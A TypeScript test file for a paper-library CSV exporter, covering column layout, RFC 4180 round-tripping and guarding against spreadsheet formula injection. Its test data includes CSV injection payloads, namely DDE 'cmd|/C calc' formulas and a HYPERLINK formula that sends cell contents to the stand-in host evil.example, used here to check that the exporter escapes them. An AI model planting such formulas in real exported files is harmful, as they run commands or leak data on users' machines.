import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EMPTY_STATE, type PaperRecord } from '../../../src/core/paper';
import { yearOf } from '../../../src/library/paper-facts';
import { CSV_COLUMNS, csvCell, toCsv, unguardCell } from '../../../src/library/csv';
import { testPaper } from '../../support/papers';
import { anyText, library } from './arbitraries';

/**
 * A strict RFC 4180 reader: every record ends in CRLF, a field is either quoted (quotes doubled
 * inside) or contains no quote, comma, CR or LF. Anything else throws, so sloppy output fails.
 */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else field += text[i++];
      }
    } else {
      while (i < text.length && !/[,\r\n]/.test(text[i]!)) {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}, got ${JSON.stringify(text[i])}`);
  }
  if (row.length > 0) throw new Error('last record has no CRLF');
  return rows;
}

const iso = (ms: number | null) => (ms === null ? '' : new Date(ms).toISOString());

function expectedRow(r: PaperRecord): string[] {
  return [
    r.id,
    r.title,
    r.authors.join('; '),
    r.abstract ?? '',
    r.url,
    r.pdfUrl ?? '',
    r.primaryCategory ?? '',
    r.site,
    String(r.starred),
    iso(r.starredAt),
    String(r.read),
    iso(r.readAt),
    String(r.dismissed),
    iso(r.firstSeenAt),
    iso(r.lastSeenAt),
    r.tags.join('; '),
    r.note,
    String(yearOf(r) ?? ''), // yearOf has its own tests (bibtex.test.ts)
    r.venue ?? '',
    String(r.authorsCut === true),
  ];
}

describe('CSV export', () => {
  it('has the documented columns', () => {
    expect(toCsv([])).toBe(
      'id,title,authors,abstract,url,pdf_url,primary_category,site,starred,starred_at,read,read_at,dismissed,first_seen_at,last_seen_at,tags,note,year,venue,authors_cut\r\n',
    );
    expect(CSV_COLUMNS).toHaveLength(20);
  });

  it("gives each paper's year (from its id, else the one its page showed) and venue, else empty", () => {
    const record = (id: string, extra: Partial<PaperRecord> = {}): PaperRecord => ({ ...testPaper(1, { id, ...extra }), ...EMPTY_STATE });
    const rows = toCsv([record('arxiv:2408.00001'), record('scholar:42', { year: 2002 }), record('scholar:43'), record('acl:P19-1001', { year: 2020, venue: 'Proc. X' })])
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',').slice(-3, -1));
    expect(rows).toEqual([
      ['2024', ''],
      ['2002', ''],
      ['', ''],
      ['2019', 'Proc. X'],
    ]);
  });

  it('says where the page named only the first authors (authors_cut, last)', () => {
    const record = (id: string, extra: Partial<PaperRecord> = {}): PaperRecord => ({ ...testPaper(1, { id, ...extra }), ...EMPTY_STATE });
    const lines = toCsv([record('scholar:42', { authors: ['S Bannister', 'J Yu', 'B Leitner'], authorsCut: true }), record('arxiv:2408.00001')]).split('\r\n');
    expect(lines.slice(1, -1).map((line) => [line.split(',')[2], line.split(',').at(-1)])).toEqual([
      ['S Bannister; J Yu; B Leitner', 'true'],
      ['Author 1', 'false'],
    ]);
  });

  it('round-trips through a strict RFC 4180 reader (property: quotes, commas, newlines, unicode)', () => {
    fc.assert(
      fc.property(library(), (records) => {
        const rows = readCsv(toCsv(records));
        expect(rows[0]).toEqual(CSV_COLUMNS);
        expect(rows.slice(1).map((row) => row.map(unguardCell))).toEqual(records.map(expectedRow));
      }),
      { numRuns: 200 },
    );
  });

  it('guards every cell a spreadsheet would run as a formula, reversibly, also split at semicolons (property)', () => {
    fc.assert(
      fc.property(fc.oneof(anyText(3), fc.constantFrom('=1+1', "'=1+1", "''@x", '-5', '+', '@', '\tx', '\rx', 'x;=1+1;y', "a; '=b", 'a;  -c', ';@', 'a;b', 'a\n=1', "a\r\n '=b", 'a\n\n-c')), (text) => {
        const cell = readCsv(`${csvCell(text)}\r\n`)[0]![0]!;
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        // Excel in locales that separate lists by ";" splits rows there, and reads each piece as a
        // cell (past the spaces after "; ", as lists are joined, should it trim them).
        for (const piece of csvCell(text).split(';').slice(1)) expect(piece).not.toMatch(/^ *[=+\-@\t\r]/);
        // …and rows at a line break within a cell: each line starts a cell.
        for (const line of csvCell(text).split('\n').slice(1)) expect(line).not.toMatch(/^ *[=+\-@\t\r]/);
        expect(unguardCell(cell)).toBe(text);
      }),
      { numRuns: 500 },
    );
  });

  it('guards a formula after a semicolon: a spreadsheet splitting rows at ";" honours no quote in mid-field', () => {
    expect(csvCell("x;=cmd|'/C calc'!A0")).toBe("x;'=cmd|'/C calc'!A0");
    expect(toCsv([{ ...testPaper(1), ...EMPTY_STATE, tags: [], note: '', authors: ['Ada', '=cmd'] }]).split('\r\n')[1]).toContain(',Ada; \'=cmd,');
    expect(csvCell('plain; title')).toBe('plain; title');
    // So does a line break.
    expect(csvCell("Read for the group.\n=cmd|' /C calc'!A0;")).toBe(`"Read for the group.\n'=cmd|' /C calc'!A0;"`);
  });

  it('writes a hostile title as text', () => {
    const evil: PaperRecord = {
      id: 'arxiv:2408.00001',
      title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      authors: ['@SUM(1+1)*cmd|" /C calc"!A0', 'Normal Name'],
      abstract: '-2+3',
      url: 'https://arxiv.org/abs/2408.00001',
      pdfUrl: null,
      primaryCategory: null,
      subjects: [],
      comments: null,
      site: 'arxiv',
      aliases: [],
      ...EMPTY_STATE,
      tags: ['+tag'],
      note: 'fine, "quoted"\nnext line',
      starredAt: Date.UTC(2024, 7, 9, 10, 30),
      starred: true,
    };
    const line = toCsv([evil]).split('\r\n')[1]!;
    expect(line).toBe(
      [
        'arxiv:2408.00001',
        `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
        `"'@SUM(1+1)*cmd|"" /C calc""!A0; Normal Name"`,
        "'-2+3",
        'https://arxiv.org/abs/2408.00001',
        '',
        '',
        'arxiv',
        'true',
        '2024-08-09T10:30:00.000Z',
        'false',
        '',
        'false',
        '',
        '',
        "'+tag",
        '"fine, ""quoted""\nnext line"',
        '2024',
        '',
        'false',
      ].join(','),
    );
  });
});
